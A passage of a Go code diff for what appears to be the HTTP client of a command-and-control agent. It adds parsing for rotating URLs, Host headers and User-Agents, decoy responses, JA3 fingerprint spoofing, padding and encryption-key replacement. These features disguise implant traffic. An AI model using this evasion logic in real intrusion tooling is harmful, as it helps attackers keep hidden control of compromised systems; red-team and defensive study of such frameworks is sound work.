+				return fmt.Errorf("there was an error parsing the URI rotation list: %s", err)
+			}
+		case "hosts":
+			if hosts, err = clients.NewRotation(strings.Split(value, ",")); err != nil {
+				return fmt.Errorf("there was an error parsing the Host header rotation list: %s", err)
+			}
+		case "useragents":
+			if agents, err = clients.NewRotation(strings.Split(value, "\\n")); err != nil {
+				return fmt.Errorf("there was an error parsing the User-Agent rotation list: %s", err)
+			}
+		case "useragent":
+			userAgent = value
+		case "response":
+			if decoy, err = clients.NewDecoy(value); err != nil {
+				return fmt.Errorf("there was an error parsing the response profile: %s", err)
+			}
+		case "proxy":
+			proxy = value
+		case "ja3":
+			ja3 = value
+		case "parrot":
+			parrot = value
+		case "padding":
+			if paddingMax, err = strconv.Atoi(value); err != nil {
+				return fmt.Errorf("there was an error converting the padding max to an integer: %s", err)
+			}
+		default:
+			return fmt.Errorf("%s is not a communication profile setting for the http client", key)
+		}
+	}
+	if len(urls) == 0 {
+		return fmt.Errorf("the communication profile does not have a URL")
+	}
+	c, err := getClient(protocol, proxy, ja3, parrot)
+	if err != nil {
+		return err
+	}
+	if proxy != client.Proxy {
+		clients.ResetProxy()
+	}
+	client.Client, client.URL, client.currentURL, client.Protocol, client.Host, client.Headers = c, urls, 0, protocol, host, headers
+	client.UserAgent, client.Proxy, client.JA3, client.Parrot, client.PaddingMax = userAgent, proxy, ja3, parrot, paddingMax
+	client.paths, client.hosts, client.agents, client.decoy = paths, hosts, agents, decoy
+	return nil
+}
+
+// parseHeaders parses a new line separated (e.g., \n) list of HTTP headers into a map of header names and values
+func parseHeaders(list string) map[string]string {
+	if list == "" {
+		return nil
+	}
+	headers := make(map[string]string)
+	for _, header := range strings.Split(list, "\\n") {
+		key, value, _ := strings.Cut(header, ":")
+		// Remove leading or trailing spaces
+		key, value = strings.TrimSpace(key), strings.TrimSpace(value)
+		if cli.Enabled {
+			cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Header (%d): %s, Value (%d): %s\n", len(key), key, len(value), value))
+		}
+		headers[key] = value
+	}
+	return headers
+}
+
+// setSecret replaces the key used to encrypt communications and zeroes the previous key
+func (client *Client) setSecret(key []byte) {
+	client.secret.Destroy()
+	client.secret = secure.NewBuffer(key)
+}
+
 // Get is a generic function that is used to retrieve the value of a Client's field
 func (client *Client) Get(key string) string {
-	cli.Message(cli.DEBUG, "Entering into clients.http.Get()...")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Key: %s", key))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.http.Get()...")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Key: %s", key))
+	}
 	switch strings.ToLower(key) {
 	case "ja3":
 		return client.JA3
@@ -543,6 +844,12 @@ func (client *Client) Get(key string) string {
 		return client.Parrot
 	case "protocol":
 		return client.Protocol
+	case "fallback":
+		return client.fallback
+	case "proxy":
+		return client.Proxy
+	case "url":
+		return client.URL[client.currentURL]
 	default:
 		return fmt.Sprintf("unknown client configuration setting: %s", key)
 	}
@@ -562,8 +869,10 @@ func (client *Client) Auth(auth string, register bool) (messages.Base, error) {
 
 // Initial executes the specific steps required to establish a connection with the C2 server and checkin or register an agent
 func (client *Client) Initial(agent messages.AgentInfo) (messages.Base, error) {
-	cli.Message(cli.DEBUG, "Entering clients.http.Initial function")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Input AgentInfo:\r\n%+v", agent))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering clients.http.Initial function")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Input AgentInfo:\r\n%+v", agent))
+	}
 	// Authenticate
 	return client.Auth("opaque", true)
 }